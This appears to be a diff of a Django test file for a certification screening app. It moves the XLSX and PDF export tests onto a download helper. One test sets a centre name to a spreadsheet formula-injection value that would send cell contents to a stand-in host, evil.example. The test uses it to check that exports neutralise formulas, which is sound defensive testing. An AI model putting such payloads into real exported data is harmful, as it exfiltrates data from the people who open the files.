@@ -14,6 +14,7 @@ from certification import screening
 from certification.models import ScreeningReason
 from certification.screening import Judgement
 from certification.tests.factories_screen import all_complete, make_application, make_call
+from downloads.tests.fetch import download
 
 
 def _screened(world: Any) -> Any:
@@ -77,8 +78,9 @@ def test_the_sheet_lists_the_areas_results_and_neutralises_formulas(
     centre = world["5940101"].centres.order_by("pk")[0]
     centre.name_th = '=HYPERLINK("http://evil.example/?"&A1,"ดู")'
     centre.save()
-    response = client_as("overseer.pattani").get(
-        reverse("certification:screening_results_xlsx", args=[call.pk])
+    response = download(
+        client_as("overseer.pattani"),
+        reverse("certification:screening_results_xlsx", args=[call.pk]),
     )
     assert response.status_code == 200
     sheet = load_workbook(io.BytesIO(response.content)).active
@@ -95,8 +97,9 @@ def test_the_sheet_lists_the_areas_results_and_neutralises_formulas(
 
 def test_the_pdf_is_thai_with_thai_digits(client_as: Any, world: Any) -> None:
     call = _screened(world)
-    response = client_as("overseer.pattani").get(
-        reverse("certification:screening_results_pdf", args=[call.pk])
+    response = download(
+        client_as("overseer.pattani"),
+        reverse("certification:screening_results_pdf", args=[call.pk]),
     )
     assert response.status_code == 200
     assert response["Content-Type"] == "application/pdf"
@@ -142,7 +145,8 @@ def test_results_and_assignment_read_in_the_same_number_of_queries_for_3_or_30(
             ("assign", ops, reverse("certification:screening_assign") + f"?call={call.pk}"),
         ):
             with CaptureQueriesContext(connection) as queries:
-                response = who.get(url)
+                # The sheet: asked for, prepared by the worker and downloaded.
+                response = download(who, url) if name == "sheet" else who.get(url)
             assert response.status_code == 200
             counts[name].append(len(queries))
         page = client.get(reverse("certification:screening_results", args=[call.pk]))
